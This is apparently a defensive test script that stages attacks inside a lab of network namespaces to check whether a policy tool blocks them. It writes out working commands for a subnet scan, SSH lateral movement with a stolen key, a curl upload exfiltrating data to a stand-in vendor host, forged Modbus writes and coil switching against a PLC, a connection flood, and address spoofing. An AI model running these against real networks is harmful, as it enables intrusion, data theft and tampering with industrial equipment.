# What an intruder does on the live site, one attack after the other. Each prints one line: its name, and whether the intruder got what he wanted.
# Whether something was blocked is seen here from the intruder's side; by which limit, Picket has to say. Sourced by live.sh.

readonly ATTACKS=(scan lateral exfiltration oversize forged-write forged-operation closed-hour flood spoofing)

inside_attack() {
  local name names=("$@")
  ((${#names[@]} > 0)) || names=("${ATTACKS[@]}")
  for name in "${names[@]}"; do
    [[ " ${ATTACKS[*]} " == *" $name "* ]] || fail "no attack is called $name; there are: ${ATTACKS[*]}"
  done
  for name in "${names[@]}"; do
    if "attack_${name//-/_}" >>"$RUN/log/attacks" 2>&1; then echo "$name got-through"; else echo "$name blocked"; fi
  done
}

# The camera looks for services on every host of the subnet; it got through if it found one that is not the camera's own.
attack_scan() {
  ip netns exec camera timeout 30 nmap -sS -Pn -n --top-ports 20 --max-rate 400 --max-retries 0 --host-timeout 20s \
    --source-port 61000 -oG - 10.20.0.20-21 10.20.0.30-31 10.20.0.40 10.20.0.50-51 | tee "$RUN/found"
  grep -q '/open/' "$RUN/found"
}

# The recorder, taken over, tries the web server's shell with the key it stole.
attack_lateral() {
  ip netns exec nvr timeout 8 ssh -F none -i "$RUN/ssh-key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o BatchMode=yes -o ConnectTimeout=4 root@web.site.test uptime
}

# Secrets leave by a connection that is allowed: the camera uploads to its vendor's host.
attack_exfiltration() {
  head -c 3000000 /dev/urandom >"$RUN/secrets"
  ip netns exec camera curl -sSk --fail --max-time 10 -o /dev/null -T "$RUN/secrets" https://firmware.camvendor.example/upload/a.bin
}

# Requests for the time that carry 1,200 bytes instead of 48; it got through if they reach the server's network layer.
attack_oversize() {
  local before after
  before=$(received_datagrams)
  ip netns exec camera python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(20): s.sendto(bytes([0x23]) + bytes(1199), ('10.20.0.1', 123))"
  sleep 0.5
  after=$(received_datagrams)
  ((after - before >= 20))
}

received_datagrams() {
  ip netns exec router awk '$1 == "Udp:" && $2 ~ /^[0-9]+$/ { print $2 }' /proc/net/snmp
}

attack_forged_write() {
  ip netns exec pc timeout 6 mbpoll -m tcp -a 1 -0 -t 4 -r 5 -1 -o 2 10.20.0.31 999
}

# The master, taken over, switches coils, which it never did: ten times on one connection. It got through if the unit obeyed most of them.
attack_forged_operation() {
  ip netns exec scada python3 -c "
import socket, time
s = socket.create_connection(('10.20.0.31', 502), 4); s.settimeout(0.5)
done = 0
for i in range(10):
    try:
        s.sendall(bytes([0, i, 0, 0, 0, 6, 1, 5, 0, i, 255, 0])); done += len(s.recv(64)) > 0
    except OSError: pass
    time.sleep(0.3)
print(done, 'of 10')
raise SystemExit(0 if done >= 5 else 1)"
}

# The admin's laptop is used at an hour when nobody works. The policy's hours are closed for it just before.
attack_closed_hour() {
  ip netns exec admin timeout 8 ssh -F none -i "$RUN/ssh-key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o BatchMode=yes -o ConnectTimeout=4 root@web.site.test uptime
}

# A flood of connections to a service that the pc may use; it got through if most were answered.
attack_flood() {
  ip netns exec pc python3 -c "
import socket, time
done, open_ones, end = 0, [], time.time() + 8
for i in range(400):
    if time.time() > end: break
    s = socket.socket(); s.settimeout(0.05)
    try:
        s.connect(('10.20.0.40', 80)); done += 1
    except OSError: pass
    open_ones.append(s)
print(done, 'of', i + 1)
raise SystemExit(0 if done > 200 else 1)"
}

# The camera speaks as the Modbus master, with its address; it got through if the unit answers, or even hears it.
attack_spoofing() {
  local before after
  before=$(ip netns exec plc cat /sys/class/net/eth0/statistics/rx_packets)
  ip netns exec camera nping --tcp -c 60 --rate 60 -p 502 -S 10.20.0.30 --send-eth --dest-mac 02:0a:14:00:00:31 10.20.0.31
  ip netns exec camera nping --tcp -c 60 --rate 60 -p 502 -S 10.20.0.30 --send-eth --dest-mac 02:0a:14:00:00:01 10.20.0.31
  after=$(ip netns exec plc cat /sys/class/net/eth0/statistics/rx_packets)
  ((after - before >= 60))
}
